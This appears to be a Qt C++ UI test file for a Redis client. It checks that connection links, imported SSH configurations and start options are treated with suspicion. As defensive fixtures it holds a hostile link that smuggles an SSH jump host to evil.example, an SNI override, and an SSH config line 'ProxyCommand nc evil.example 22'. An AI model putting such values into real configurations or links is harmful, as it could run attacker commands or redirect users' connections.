// SPDX-License-Identifier: GPL-3.0-or-later
// What opens a connection at the start: links, imported settings, options.

#include "core/config/profilestore.h"
#include "tests/support/uirunner.h"
#include "tests/ui/connections/startpagetest.h"
#include "ui/connections/connectiondialog.h"
#include "ui/connections/linkedconnection.h"

#include <QAction>
#include <QLineEdit>
#include <QMessageBox>
#include <QPointer>
#include <QPushButton>
#include <QSignalSpy>
#include <QTreeWidget>

namespace tst_startlink
{

using namespace lockscope;
using namespace lockscope::test;
using namespace lockscope::test::startpage;

class tst_StartLink : public StartPageTest
{
    Q_OBJECT

private slots:
    void cleanup() { end(); }
    void aLinkIsLookedAtFirst()
    {
        open();
        const QSignalSpy opened(m_link.get(), &EngineBridge::openWanted);
        m_window->openLink(fromUrl(
            "rediss://me:geheim@one:7000/3?insecure=1&ssh=evil.example&sshconfig=/tmp/x&cacert=/tmp/y"));
        auto *dialog = m_window->findChild<ConnectionDialog *>();
        QVERIFY(dialog);
        QVERIFY2(dialog->notice().contains(QStringLiteral("came from a link or the command line")),
                 qPrintable(dialog->notice()));
        QVERIFY(dialog->notice().contains(QStringLiteral("removed")));
        QVERIFY(!dialog->urlEdit()->text().contains(QStringLiteral("geheim")));
        QVERIFY(!m_window->windowTitle().contains(QStringLiteral("geheim")));
        const ConnectionSpec spec = dialog->spec();
        QVERIFY(spec.readOnly && spec.tls.enabled && spec.tls.verifyPeer);
        QVERIFY(!spec.ssh.enabled() && spec.ssh.configFile.isEmpty() && spec.tls.caFile.isEmpty());
        QCOMPARE(spec.host, QStringLiteral("one"));
        QCOMPARE(spec.db, 3);
        QCOMPARE(opened.count(), 0);
        QVERIFY(!m_window->deployment().spec);
        dialog->connectButton()->click();
        QCOMPARE(opened.count(), 1);
        m_window.reset();
        QVERIFY(settings().contains(QStringLiteral("one:7000")));
        QVERIFY(!settings().contains(QStringLiteral("geheim")));
    }

    void aPlainLinkLosesNothing_data()
    {
        QTest::addColumn<QString>("url");
        for (const char *url :
             {"redis://one", "rediss://u:p@one:7000/2?sni=one", "unix:///run/redis.sock?db=1",
              "sentinel://a:1,b:2/orders?sentineluser=u&sentinelpassword=p", "cluster://a:1,b:2",
              "redis://a redis://b:2 redis://c"})
            QTest::newRow(url) << QString::fromLatin1(url);
    }
    void aPlainLinkLosesNothing()
    {
        QFETCH(QString, url);
        const auto spec = parseConnectionUrl(url);
        QVERIFY(spec);
        const LinkedConnection linked = linkedConnection(*spec);
        QVERIFY(linked.spec == *spec);
        QVERIFY(!linked.leftOut);
    }

    void anImportedSshConfigurationIsShownFirst()
    {
        QFile config(m_dir.filePath(QStringLiteral("ssh_config")));
        QVERIFY(config.open(QIODevice::WriteOnly));
        config.write("Host *\n  ProxyCommand nc evil.example 22\n");
        config.close();
        ConnectionSpec gift = profile("gift");
        gift.ssh = {
            .destination = QStringLiteral("jump"), .configFile = config.fileName(), .unconfirmed = true};
        QVERIFY(ProfileStore(m_dir.path()).save({gift}).ok());
        open();
        const QSignalSpy opened(m_link.get(), &EngineBridge::openWanted);
        const auto asked = [this] {
            m_window->openProfile(QStringLiteral("gift"),
                                  [](ConnectionSpec &spec) { spec.patterns = {"a*"}; });
            return m_window->findChild<QMessageBox *>(QStringLiteral("sshConsent"));
        };
        QPointer<QMessageBox> box = asked();
        QVERIFY(box);
        QVERIFY2(box->informativeText().contains(QStringLiteral("ProxyCommand nc evil.example 22")),
                 qPrintable(box->informativeText()));
        box->button(QMessageBox::Cancel)->click();
        QTRY_VERIFY(!box);
        QCOMPARE(opened.count(), 0);
        box = asked();
        QVERIFY(box);
        for (QAbstractButton *button : box->buttons()) {
            if (box->buttonRole(button) == QMessageBox::AcceptRole)
                button->click();
        }
        QTRY_COMPARE(opened.count(), 1);
        QTRY_VERIFY(!box);
        const auto saved = ProfileStore(m_dir.path()).find(QStringLiteral("gift"));
        QVERIFY(saved && !saved->ssh.unconfirmed && saved->patterns.isEmpty());
        QVERIFY(!asked());
        QCOMPARE(opened.count(), 2);
    }

    void aStartMaySayHowItIsOpened()
    {
        ConnectionSpec orders = profile("orders");
        orders.readOnly = false;
        QVERIFY(ProfileStore(m_dir.path()).save({orders}).ok());
        open();
        const auto how = [](ConnectionSpec &spec) {
            spec.readOnly = true;
            spec.patterns = {QByteArray("a*")};
        };
        m_window->openProfile(QStringLiteral("orders"), how);
        QVERIFY(m_window->deployment().spec && m_window->deployment().spec->readOnly);
        QCOMPARE(m_window->deployment().spec->patterns, QList<QByteArray>{"a*"});
        QVERIFY(m_window->isShowing(
            {.connection = QStringLiteral("orders"), .readOnly = true, .patterns = {QByteArray("a*")}}));
        m_window->openLink(fromUrl("redis://one"), how);
        const auto *dialog = m_window->findChild<ConnectionDialog *>();
        QVERIFY(dialog);
        QCOMPARE(dialog->spec().patterns, QList<QByteArray>{"a*"});
        m_window->openProfile(QStringLiteral("orders"));
        QVERIFY(!m_window->deployment().spec->readOnly);
    }

    void tellsWhereItComesFrom()
    {
        using Origin = MainWindow::Origin;
        QVERIFY(ProfileStore(m_dir.path()).save({profile("orders")}).ok());
        open();
        QVERIFY(m_window->origin() == Origin::Nowhere);
        m_window->openProfile(QStringLiteral("orders"));
        QVERIFY(m_window->origin() == Origin::Profile);
        m_window->connectTo(fromUrl("redis://one"));
        QVERIFY(m_window->origin() == Origin::Address);
        m_window->connectTo(profile("unsaved"));
        QVERIFY(m_window->origin() == Origin::Nowhere);
        m_window->actions().sandboxes.at(0)->trigger();
        m_window->enterSandbox(profile("sandbox"));
        QVERIFY(m_window->origin() == Origin::Sandbox);
    }

    void aRunForAPictureLeavesNoTraces()
    {
        open();
        m_window->leaveNoTraces();
        m_window->connectTo(fromUrl("redis://two:7000"));
        m_window->disconnectFromServer();
        QVERIFY(start().list()->isHidden());
        m_window.reset();
        QVERIFY(!settings().contains(QStringLiteral("two:7000")));
    }

    void aLinkDoesNotSayWhoseNameCounts_data()
    {
        QTest::addColumn<QString>("url");
        for (const char *url : {"rediss://bank.example?sni=evil.example", "rediss://a rediss://b?sni=c"})
            QTest::newRow(url) << QString::fromLatin1(url);
    }
    void aLinkDoesNotSayWhoseNameCounts()
    {
        QFETCH(QString, url);
        const auto spec = parseConnectionUrl(url);
        QVERIFY(spec);
        const LinkedConnection linked = linkedConnection(*spec);
        QVERIFY(linked.leftOut);
        QVERIFY(linked.spec.tls.serverName.isEmpty());
        for (const ConnectionSpec &member : linked.spec.members)
            QVERIFY(member.tls.enabled && member.tls.serverName.isEmpty());
    }
};

LOCKSCOPE_UI_TEST(tst_StartLink)

} // namespace tst_startlink

#include "tst_startlink.moc"
